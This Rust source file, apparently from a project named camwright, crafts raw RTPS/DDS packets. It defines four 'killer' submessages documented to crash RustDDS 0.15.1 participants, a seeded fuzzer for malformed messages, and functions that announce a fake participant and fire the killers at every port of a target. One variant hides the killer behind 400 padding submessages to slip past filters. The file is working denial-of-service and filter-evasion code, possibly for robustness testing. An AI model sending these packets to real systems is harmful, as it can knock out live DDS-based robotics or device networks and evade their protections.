// Copyright 2026 The camwright maintainers. SPDX-License-Identifier: Apache-2.0
//! RTPS messages that harm: the known killers, and any number of malformed ones from a seed.

use std::net::{Ipv4Addr, UdpSocket};

const SPDP_WRITER: [u8; 4] = [0, 1, 0, 0xc2];
const SPDP_READER: [u8; 4] = [0, 1, 0, 0xc7];
const PUBLICATIONS_WRITER: [u8; 4] = [0, 0, 3, 0xc2];
const PUBLICATIONS_READER: [u8; 4] = [0, 0, 3, 0xc7];
const SUBSCRIPTIONS_WRITER: [u8; 4] = [0, 0, 4, 0xc2];
const SUBSCRIPTIONS_READER: [u8; 4] = [0, 0, 4, 0xc7];
const BIG: i64 = 1 << 62;

/// Ports of a domain's first participants: discovery by multicast, discovery and user traffic of each.
pub fn ports(domain: u16, participants: u16) -> Vec<u16> {
    let first = 7400 + 250 * domain;
    [first, first + 1]
        .into_iter()
        .chain((0..participants).flat_map(|id| [first + 10 + 2 * id, first + 11 + 2 * id]))
        .collect()
}

fn sequence_number(value: i64) -> [u8; 8] {
    let octets = value.to_le_bytes();
    std::array::from_fn(|index| octets[(index + 4) % 8])
}

fn submessage(kind: u8, flags: u8, body: &[u8]) -> Vec<u8> {
    let length = u16::try_from(body.len()).expect("short");
    [&[kind, flags], &length.to_le_bytes()[..], body].concat()
}

fn message(prefix: &[u8; 12], submessages: &[Vec<u8>]) -> Vec<u8> {
    [&b"RTPS\x02\x03\x01\x0f"[..], prefix, &submessages.concat()].concat()
}

fn parameter(id: u16, value: &[u8]) -> Vec<u8> {
    let length = u16::try_from(value.len().next_multiple_of(4)).expect("short");
    let mut octets = [&id.to_le_bytes()[..], &length.to_le_bytes(), value].concat();
    octets.resize(4 + usize::from(length), 0);
    octets
}

fn locator(address: Ipv4Addr, port: u16) -> Vec<u8> {
    [&1_u32.to_le_bytes()[..], &u32::from(port).to_le_bytes(), &[0; 12], &address.octets()].concat()
}

/// The announcement of a participant that listens here.
pub fn announcement(prefix: &[u8; 12], address: Ipv4Addr, port: u16, domain: u16) -> Vec<u8> {
    let payload = [
        vec![0, 3, 0, 0],
        parameter(0x15, &[2, 3]),
        parameter(0x16, &[1, 15]),
        parameter(0x50, &[&prefix[..], &[0, 0, 1, 0xc1]].concat()),
        parameter(0x32, &locator(address, port)),
        parameter(0x31, &locator(address, port)),
        parameter(0x02, &[100, 0, 0, 0, 0, 0, 0, 0]),
        parameter(0x58, &0x0c3f_u32.to_le_bytes()),
        parameter(0x0f, &u32::from(domain).to_le_bytes()),
        parameter(1, &[]),
    ]
    .concat();
    message(prefix, &[data(SPDP_READER, SPDP_WRITER, 1, &payload)])
}

fn data(reader: [u8; 4], writer: [u8; 4], number: i64, payload: &[u8]) -> Vec<u8> {
    submessage(0x15, 5, &[&[0, 0, 16, 0][..], &reader, &writer, &sequence_number(number), payload].concat())
}

fn data_frag(reader: [u8; 4], writer: [u8; 4], fragment: u16, sample: u32) -> Vec<u8> {
    let fields = [
        &[0, 0, 28, 0][..],
        &reader,
        &writer,
        &sequence_number(1),
        &[1, 0, 0, 0, 1, 0],
        &fragment.to_le_bytes(),
        &sample.to_le_bytes(),
        &[0, 3, 0, 0],
        &[b'x'; 60],
    ];
    submessage(0x16, 1, &fields.concat())
}

fn heartbeat(reader: [u8; 4], writer: [u8; 4], first: i64, last: i64) -> Vec<u8> {
    let fields = [&reader[..], &writer, &sequence_number(first), &sequence_number(last), &[1, 0, 0, 0]];
    submessage(0x07, 1, &fields.concat())
}

fn gap(reader: [u8; 4], writer: [u8; 4], start: i64, base: i64) -> Vec<u8> {
    let fields = [&reader[..], &writer, &sequence_number(start), &sequence_number(base), &[0, 0, 0, 0]];
    submessage(0x08, 1, &fields.concat())
}

fn acknack(reader: [u8; 4], writer: [u8; 4], base: i64) -> Vec<u8> {
    let fields = [&reader[..], &writer, &sequence_number(base), &[32, 0, 0, 0], &[0xff; 4], &[1, 0, 0, 0]];
    submessage(0x06, 1, &fields.concat())
}

fn nack_frag(reader: [u8; 4], writer: [u8; 4], base: u32) -> Vec<u8> {
    let fields = [
        &reader[..],
        &writer,
        &sequence_number(1),
        &base.to_le_bytes(),
        &[1, 0, 0, 0],
        &[0, 0, 0, 0x80],
        &[1, 0, 0, 0],
    ];
    submessage(0x12, 1, &fields.concat())
}

/// The submessages that each end a participant of `RustDDS` 0.15.1, by name. All but the first need their sender to be announced.
pub fn killers() -> [(&'static str, Vec<u8>); 4] {
    let (reader, writer) = (PUBLICATIONS_READER, PUBLICATIONS_WRITER);
    [
        ("DATA_FRAG of 4 GB", data_frag(reader, writer, 64, u32::MAX)),
        ("HEARTBEAT 1 to 2^62", heartbeat(reader, writer, 1, BIG)),
        ("GAP 2 to 2^62", gap(reader, writer, 2, BIG)),
        ("NACK_FRAG of fragment 0", nack_frag(reader, writer, 0)),
    ]
}

/// Numbers from a seed (xorshift64).
#[derive(Debug, Clone)]
pub struct Random(u64);

impl Random {
    pub fn new(seed: u64) -> Self {
        Random(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    pub fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 >> 33).expect("31 bits") % bound
    }

    fn octet(&mut self) -> u8 {
        u8::try_from(self.below(256)).expect("an octet")
    }

    fn prefix(&mut self) -> [u8; 12] {
        // Some senders return, so that their announcements give the rest a meaning.
        let sender = if self.below(3) == 0 { self.below(1 << 30) } else { self.below(8) };
        let mut prefix = *b"\x01\x0fstrangers!";
        prefix[8..].copy_from_slice(&u32::try_from(sender).expect("30 bits").to_le_bytes());
        prefix
    }

    fn number(&mut self) -> i64 {
        let numbers = [
            -1,
            0,
            1,
            2,
            3,
            255,
            256,
            257,
            70_000,
            1 << 20,
            1 << 31,
            1 << 32,
            1 << 40,
            1 << 48,
            BIG,
            i64::MAX,
            i64::MIN,
        ];
        numbers[self.below(numbers.len())]
    }

    /// One malformed message: well-formed parts with hostile numbers, then octets changed, cut off or added.
    pub fn malformed(&mut self, address: Ipv4Addr, domain: u16) -> Vec<u8> {
        let prefix = self.prefix();
        let endpoints = [
            (SPDP_READER, SPDP_WRITER),
            (PUBLICATIONS_READER, PUBLICATIONS_WRITER),
            (SUBSCRIPTIONS_READER, SUBSCRIPTIONS_WRITER),
            ([0; 4], PUBLICATIONS_WRITER),
            ([0, 0, 7, 4], [0, 0, 8, 3]),
        ];
        if self.below(20) == 0 {
            let length = self.below(1400);
            return (0..length).map(|_| self.octet()).collect();
        }
        let mut octets = if self.below(4) == 0 {
            announcement(&prefix, address, u16::try_from(self.below(65_536)).expect("16 bits"), domain)
        } else {
            let mut parts = Vec::new();
            for _ in 0..=self.below(4) {
                let (reader, writer) = endpoints[self.below(endpoints.len())];
                let (first, second) = (self.number(), self.number());
                let payload: Vec<u8> = (0..self.below(200)).map(|_| self.octet()).collect();
                parts.push(match self.below(9) {
                    0 => data(reader, writer, first, &[&[0, 3, 0, 0], payload.as_slice()].concat()),
                    1 => data_frag(reader, writer, 1 << self.below(16), 1 << self.below(32)),
                    2 => heartbeat(reader, writer, first, second),
                    3 => gap(reader, writer, first, second),
                    4 => acknack(reader, writer, first),
                    5 => nack_frag(reader, writer, u32::try_from(self.below(70_000)).expect("small")),
                    6 => submessage(0x09, 1, &payload),
                    7 => submessage([0x0e, 0x0c, 0x0f, 0x0d][self.below(4)], 1, &payload),
                    _ => submessage(self.octet(), self.octet(), &payload),
                });
            }
            message(&prefix, &parts)
        };
        for _ in 0..self.below(4) {
            let at = self.below(octets.len());
            octets[at] = self.octet();
        }
        if self.below(6) == 0 {
            octets.truncate(self.below(octets.len() + 1));
        }
        octets
    }
}

/// Announces a stranger to every port and sends the killers there.
pub fn send_killers(socket: &UdpSocket, to: Ipv4Addr, ports: &[u16], domain: u16, prefix: &[u8; 12]) {
    let own = socket.local_addr().expect("bound");
    let std::net::IpAddr::V4(address) = own.ip() else { panic!("{own} is not IPv4") };
    let hello = announcement(prefix, address, own.port(), domain);
    for port in ports {
        // A closed port answers the next send with an error.
        let _ = socket.send_to(&hello, (to, *port));
    }
    for (_, killer) in killers() {
        let octets = message(prefix, &[killer]);
        for port in ports {
            let _ = socket.send_to(&octets, (to, *port));
        }
    }
}

/// Announces a stranger and sends `NACK_FRAG` of fragment 0 behind more submessages than any filter inspects.
pub fn send_hidden_killer(socket: &UdpSocket, to: Ipv4Addr, ports: &[u16], domain: u16, prefix: &[u8; 12]) {
    let hello = announcement(prefix, Ipv4Addr::LOCALHOST, socket.local_addr().expect("bound").port(), domain);
    let mut parts = vec![submessage(0x09, 1, &[0; 8]); 400];
    parts.push(nack_frag(PUBLICATIONS_READER, PUBLICATIONS_WRITER, 0));
    for octets in [hello, message(prefix, &parts)] {
        for port in ports {
            // A closed port answers the next send with an error.
            let _ = socket.send_to(&octets, (to, *port));
        }
    }
}
